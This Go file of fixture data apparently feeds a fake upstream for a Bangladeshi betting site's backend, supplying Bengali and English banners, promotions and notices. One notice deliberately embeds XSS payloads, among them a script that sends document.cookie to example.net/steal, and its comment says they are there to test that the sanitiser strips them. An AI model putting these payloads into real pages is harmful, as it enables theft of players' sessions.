package main

import "github.com/casinobff/bff/adapters/fakeupstream/internal/wire"

// text is one string in both languages of the site.
type text struct{ bn, en string }

func (t text) in(lang string) string {
	if lang == "bn" {
		return t.bn
	}
	return t.en
}

// notice is one announcement as the merchant wrote it in both languages.
type notice struct {
	id         string
	title      text
	content    text
	group      string                   // banners only
	picture    string                   // banners: url; others: the first announcement image (a picture's path without language and extension)
	images     []wire.AnnouncementImage // more pictures, as the back office numbered them (not in order), by path as picture
	link       string
	noExpiry   bool
	categories []int // promotions only
}

// pictureIn is a picture's path in one language: the merchant uploads a picture per language,
// its words drawn in that language ("/media/banners/m_home-1" is m_home-1.bn.svg in Bengali).
func pictureIn(p, lang string) string { return p + "." + lang + ".svg" }

// Banners carry their picture in url, one per language.
var banners = []notice{
	{
		id: "1001", group: "m_home", picture: "/media/banners/m_home-1", link: "/m/activityDetail?id=3001",
		title: text{"স্বাগতম বোনাস ১০০% — সর্বোচ্চ ৳১,৮৮৮", "Welcome Bonus 100% up to ৳1,888"},
	},
	{
		id: "1002", group: "m_home", picture: "/media/banners/m_home-2", link: "/m/sport-games",
		title: text{"বিপিএল ২০২৬: প্রতিটি ম্যাচে বাজি ধরুন", "BPL 2026: Bet on Every Match"},
	},
	{
		id: "1003", group: "m_home", picture: "/media/banners/m_home-3", link: "/m/gameList?gameType=RNG&vassalage=SPRIBE",
		title: text{"অ্যাভিয়েটর টুর্নামেন্ট — ৳৫,০০,০০০ পুরস্কার", "Aviator Tournament: ৳5,00,000 Prize Pool"},
	},
	{
		id: "1004", group: "m_home", picture: "/media/banners/m_home-4", link: "/m/activityDetail?id=3002",
		title: text{"প্রতিদিন স্লট রিবেট ১.২% পর্যন্ত", "Daily Slot Rebate up to 1.2%"},
	},
	{
		id: "1101", group: "m_hotgames", picture: "/media/banners/m_hotgames-1", link: "/m/gameList?gameType=RNG&vassalage=JL",
		title: text{"জিলি সুপার এস — জ্যাকপট সপ্তাহ", "JILI Super Ace: Jackpot Week"},
	},
	{
		id: "1102", group: "m_hotgames", picture: "/media/banners/m_hotgames-2", link: "/m/gameList?gameType=RNG&vassalage=PG",
		title: text{"পিজি সফট মাহজং ওয়েজ ২ — নতুন ফ্রি স্পিন", "PG Soft Mahjong Ways 2: New Free Spins"},
	},
	{
		id: "1301", group: "m_reg", picture: "/media/banners/m_reg-1", link: "/m/activityDetail?id=3001",
		title: text{"নিবন্ধন করুন, প্রথম ডিপোজিটে ১০০% বোনাস", "Sign up today: 100% on your first deposit"},
		content: text{
			"<p>আজই অ্যাকাউন্ট খুলুন এবং প্রথম ডিপোজিটে <strong>৳১,৮৮৮ পর্যন্ত ১০০% বোনাস</strong> নিন। শুধুমাত্র ১৮ বছর বা তার বেশি বয়সীদের জন্য।</p>",
			"<p>Open an account today and get <strong>100% up to ৳1,888</strong> on your first deposit. For players aged 18 and over only.</p>",
		},
	},
	{
		id: "1201", group: "m_leftmenu", picture: "/media/banners/m_leftmenu-1", link: "/m/app",
		title: text{"অ্যাপ ডাউনলোড করুন — অতিরিক্ত ৳৮৮ বোনাস", "Get the App: Extra ৳88 Bonus"},
	},
	{
		id: "1202", group: "m_leftmenu", picture: "/media/banners/m_leftmenu-2", link: "/m/activity",
		title: text{"VIP ক্লাব: সাপ্তাহিক ক্যাশব্যাক", "VIP Club: Weekly Cashback"},
	},
}

var playerNotices = []notice{
	{
		id: "2001", noExpiry: true,
		title: text{"আপনার অ্যাকাউন্ট নিরাপদ রাখুন", "Keep your account safe"},
		content: text{
			"<p>আমাদের কোনো কর্মী কখনো আপনার পাসওয়ার্ড, ওটিপি বা bKash পিন চাইবে না। কেউ গ্রাহক সেবার পরিচয় দিলেও এগুলো কারো সাথে শেয়ার করবেন না।</p>",
			"<p>Our staff will never ask for your password, OTP or bKash PIN. Never share them with anyone, even someone who says they are customer service.</p>",
		},
	},
	{
		id: "2002", noExpiry: true,
		title: text{"bKash ও Nagad-এ ৩ মিনিটে ডিপোজিট", "bKash and Nagad deposits in 3 minutes"},
		content: text{
			"<p>bKash ও Nagad-এর মাধ্যমে করা ডিপোজিট এখন ৩ মিনিটের মধ্যে আপনার ওয়ালেটে জমা হয়। দেরি হলে ট্রানজেকশন আইডি সহ লাইভ চ্যাটে যোগাযোগ করুন।</p>",
			"<p>Deposits made with bKash and Nagad are now credited to your wallet within 3 minutes. If one takes longer, contact live chat with your transaction ID.</p>",
		},
	},
	{
		id:    "2003",
		title: text{"নির্ধারিত রক্ষণাবেক্ষণ: এভোলিউশন লাইভ", "Scheduled maintenance: Evolution live games"},
		content: text{
			"<p>নির্ধারিত রক্ষণাবেক্ষণের জন্য ২৫ নভেম্বর ২০২৬ রাত ২টা থেকে ৪টা (GMT+6) পর্যন্ত এভোলিউশন লাইভ গেম বন্ধ থাকবে। অন্যান্য গেম স্বাভাবিকভাবে চলবে।</p>",
			"<p>Evolution live games will be unavailable on 25 November 2026 from 02:00 to 04:00 (GMT+6) for scheduled maintenance. Other games are not affected.</p>",
		},
	},
	{
		id: "2004", noExpiry: true,
		title: text{"নতুন অ্যান্ড্রয়েড অ্যাপ ৩.২", "New Android app 3.2"},
		content: text{
			"<p>আমাদের অ্যান্ড্রয়েড অ্যাপের ৩.২ সংস্করণে দ্রুত লগইন হয় এবং কম ডেটা খরচ হয়। মেনু থেকে ডাউনলোড করুন।</p>",
			"<p>Version 3.2 of our Android app logs you in faster and uses less data. Download it from the menu.</p>",
		},
	},
	{
		id: "2005", noExpiry: true,
		title: text{"দায়িত্বের সাথে খেলুন", "Play responsibly"},
		content: text{
			"<p>নিরাপত্তা কেন্দ্র থেকে দৈনিক ডিপোজিট সীমা ঠিক করুন এবং নিয়মিত বিরতি নিন। শুধুমাত্র ১৮ বছর বা তার বেশি বয়সীদের জন্য।</p>",
			"<p>Set a daily deposit limit in the Security Centre and take regular breaks. For players aged 18 and over only.</p>",
		},
	},
	{
		id: "2006", noExpiry: true,
		// The back office numbers the pictures; it does not send them in order.
		images: []wire.AnnouncementImage{
			{Sequence: 3, URL: "/media/banners/notice-2006-3"},
			{Sequence: 1, URL: "/media/banners/notice-2006-1"},
			{Sequence: 2, URL: "/media/banners/notice-2006-2"},
		},
		title: text{"bKash-এ ডিপোজিট: ৩ ধাপে", "Depositing with bKash in 3 steps"},
		content: text{
			"<p>ছবিগুলো দেখুন:</p><ol><li>ডিপোজিট পাতায় <strong>bKash</strong> বেছে নিন।</li><li>দেখানো নম্বরে টাকা পাঠান এবং রেফারেন্সে আপনার আইডি লিখুন।</li><li>ট্রানজেকশন আইডি দিয়ে <em>পাঠিয়েছি: নিশ্চিত করুন</em> চাপুন।</li></ol>",
			"<p>Follow the pictures:</p><ol><li>Choose <strong>bKash</strong> on the deposit page.</li><li>Send the money to the number shown, with your ID as the reference.</li><li>Enter the transaction ID and tap <em>I have sent it: confirm</em>.</li></ol>",
		},
	},
	{
		// Written carelessly, or by someone who broke into the back office: the BFF's sanitiser
		// must let none of its script reach a player.
		id: "2007", noExpiry: true,
		title: text{"ভুয়া লিংক থেকে সাবধান", "Beware of fake links"},
		content: text{
			`<p>আমরা শুধু এই সাইটের লিংক পাঠাই। অন্য কোনো পাতায় কখনো পাসওয়ার্ড দেবেন না।</p><script>fetch("https://example.net/steal?c="+document.cookie)</script><img src="x" onerror="alert('xss')"><p><a href="javascript:alert(document.cookie)">বোনাস নিন</a></p><p style="color:#b91c1c" onclick="steal()">সন্দেহজনক বার্তা পেলে লাইভ চ্যাটে জানান।</p>`,
			`<p>We only ever send links to this site. Never enter your password on any other page.</p><script>fetch("https://example.net/steal?c="+document.cookie)</script><img src="x" onerror="alert('xss')"><p><a href="javascript:alert(document.cookie)">Claim your bonus</a></p><p style="color:#b91c1c" onclick="steal()">Report suspicious messages to live chat.</p>`,
		},
	},
}

// agentNotices are the agents' notices (A), of the agents' home (group m_home).
var agentNotices = []notice{
	{
		id: "2101", group: "m_home", noExpiry: true,
		title: text{"অক্টোবরের কমিশন পরিশোধ করা হয়েছে", "October's commission has been paid"},
		content: text{
			"<p>অক্টোবর ২০২৬-এর এজেন্ট কমিশন আপনার প্রধান ওয়ালেটে জমা হয়েছে। বিস্তারিত দেখুন <strong>এজেন্ট রিবেট আয়</strong> পাতায়।</p>",
			"<p>Agent commission for October 2026 has been paid into your main wallet. See <strong>Agent rebate income</strong> for the details.</p>",
		},
	},
	{
		id: "2102", group: "m_home",
		title: text{"১ ডিসেম্বর থেকে নতুন রিবেট টেবিল", "New rebate table from 1 December"},
		content: text{
			"<p>১ ডিসেম্বর ২০২৬ থেকে স্লট ও লাইভ গেমের রিবেট হার বাড়ছে। আপনার ডাউনলাইনের হার <strong>গেম রিবেট সেটিংস</strong> থেকে ঠিক করুন।</p>",
			"<p>From 1 December 2026 the rebate rates of slots and live games go up. Set your downlines' rates in <strong>Game rebate settings</strong>.</p>",
		},
	},
}

var popups = []notice{
	{
		id: "2501", picture: "/media/banners/popup-welcome", link: "/m/voucherCenter",
		title: text{"স্বাগতম! প্রথম ডিপোজিটে দ্বিগুণ", "Welcome! Your first deposit, doubled"},
		content: text{
			"<p>আজই ডিপোজিট করুন এবং ৳১,৮৮৮ পর্যন্ত ১০০% বোনাস নিন। টার্নওভার ১৫ গুণ। শর্ত প্রযোজ্য।</p>",
			"<p>Deposit today and get a 100% bonus up to ৳1,888. 15x turnover. Terms apply.</p>",
		},
	},
	{
		id: "2502", picture: "/media/banners/popup-bpl", link: "/m/sport-games",
		title: text{"বিপিএল ২০২৬ শুরু হচ্ছে", "BPL 2026 starts this week"},
		content: text{
			"<p>প্রতিটি ম্যাচে লাইভ বাজি, এবং হারানো স্পোর্টস বাজির ৫% প্রতি সোমবার ফেরত।</p>",
			"<p>Live bets on every match, and 5% of lost sports bets back every Monday.</p>",
		},
	},
}

var promotions = []notice{
	{
		id: "3001", picture: "/media/banners/promo-3001", categories: []int{1},
		title: text{"প্রথম ডিপোজিটে ১০০% বোনাস", "100% First Deposit Bonus"},
		content: text{
			"<p>নতুন সদস্যরা প্রথম ডিপোজিটে ৳১,৮৮৮ পর্যন্ত ১০০% বোনাস পাবেন। সর্বনিম্ন ডিপোজিট ৳৩০০, টার্নওভার ১৫ গুণ।</p>",
			"<p>New members get a 100% bonus up to ৳1,888 on their first deposit. Minimum deposit ৳300, 15x turnover.</p>",
		},
	},
	{
		id: "3002", picture: "/media/banners/promo-3002", categories: []int{2}, noExpiry: true,
		title: text{"প্রতিদিন ১.২% পর্যন্ত স্লট রিবেট", "Daily Slot Rebate up to 1.2%"},
		content: text{
			"<p>প্রতিদিনের স্লট বাজির উপর ১.২% পর্যন্ত রিবেট, প্রতিদিন দুপুর ১২টায় আপনার ওয়ালেটে জমা হয়।</p>",
			"<p>Up to 1.2% back on every day's slot bets, paid into your wallet at 12:00 noon each day.</p>",
		},
	},
	{
		id: "3003", picture: "/media/banners/promo-3003", categories: []int{3}, noExpiry: true,
		title: text{"বন্ধুকে আমন্ত্রণ জানান: প্রত্যেকে ৳২০০", "Refer a Friend: ৳200 Each"},
		content: text{
			"<p>আপনার আমন্ত্রণ লিংক দিয়ে বন্ধু নিবন্ধন করে ৳৫০০ ডিপোজিট করলে আপনি ও আপনার বন্ধু দুজনেই ৳২০০ পাবেন।</p>",
			"<p>When a friend signs up with your invitation link and deposits ৳500, you both get ৳200.</p>",
		},
	},
	{
		id: "3004", picture: "/media/banners/promo-3004", categories: []int{1},
		title: text{"উইকেন্ড রিলোড বোনাস ২৫%", "Weekend Reload Bonus 25%"},
		content: text{
			"<p>প্রতি শুক্রবার ও শনিবার ডিপোজিটে ২৫% বোনাস, সর্বোচ্চ ৳২,৫০০।</p>",
			"<p>A 25% bonus on deposits every Friday and Saturday, up to ৳2,500.</p>",
		},
	},
	{
		id: "3005", picture: "/media/banners/promo-3005", categories: []int{4},
		title: text{"বিপিএল ক্রিকেট ক্যাশব্যাক ৫%", "BPL Cricket Cashback 5%"},
		content: text{
			"<p>বাংলাদেশ প্রিমিয়ার লিগের প্রতিটি ম্যাচে হারানো স্পোর্টস বাজির ৫% ফেরত, প্রতি সোমবার জমা হয়।</p>",
			"<p>5% back on lost sports bets on every Bangladesh Premier League match, paid every Monday.</p>",
		},
	},
}

var hotNotices = []notice{
	{
		id: "4001", picture: "/media/banners/hot-4001", link: "/m/gameList?gameType=RNG&vassalage=SPRIBE",
		title: text{"অ্যাভিয়েটর টুর্নামেন্ট চলছে", "Aviator Tournament is on"},
		content: text{
			"<p>২০ থেকে ৩০ নভেম্বর সর্বোচ্চ মাল্টিপ্লায়ারের জন্য ৳৫,০০,০০০ পুরস্কার।</p>",
			"<p>৳5,00,000 in prizes for the highest multipliers from 20 to 30 November.</p>",
		},
	},
}

// announcements builds the content backend's answer in each language.
func announcements() map[string]wire.Announcements {
	out := map[string]wire.Announcements{}
	for _, lang := range []string{"bn", "en"} {
		out[lang] = wire.Announcements{
			Banners:   render(lang, banners, true),
			Player:    render(lang, playerNotices, false),
			Popup:     render(lang, popups, false),
			Promotion: promotionList(lang),
			Hot:       render(lang, hotNotices, false),
			Agent:     render(lang, agentNotices, false),
		}
	}
	return out
}

func render(lang string, ns []notice, banner bool) []wire.Announcement {
	out := make([]wire.Announcement, 0, len(ns))
	for _, n := range ns {
		a := wire.Announcement{
			ID:                           n.id,
			Title:                        n.title.in(lang),
			Content:                      n.content.in(lang),
			GroupName:                    n.group,
			Link:                         n.link,
			StartDate:                    "2026-11-01 00:00:00",
			EndDate:                      "2026-12-31 23:59:59",
			AnnouncementImages:           []wire.AnnouncementImage{},
			PromoAnnouncementCategoryIDs: n.categories,
		}
		if a.PromoAnnouncementCategoryIDs == nil {
			a.PromoAnnouncementCategoryIDs = []int{}
		}
		if n.noExpiry {
			a.NoExpiry, a.EndDate = 1, ""
		}
		switch {
		case banner:
			a.URL = pictureIn(n.picture, lang)
		case n.picture != "":
			a.AnnouncementImages = append(a.AnnouncementImages, wire.AnnouncementImage{Sequence: 1, URL: pictureIn(n.picture, lang)})
		}
		for _, img := range n.images {
			a.AnnouncementImages = append(a.AnnouncementImages, wire.AnnouncementImage{Sequence: img.Sequence, URL: pictureIn(img.URL, lang)})
		}
		out = append(out, a)
	}
	return out
}
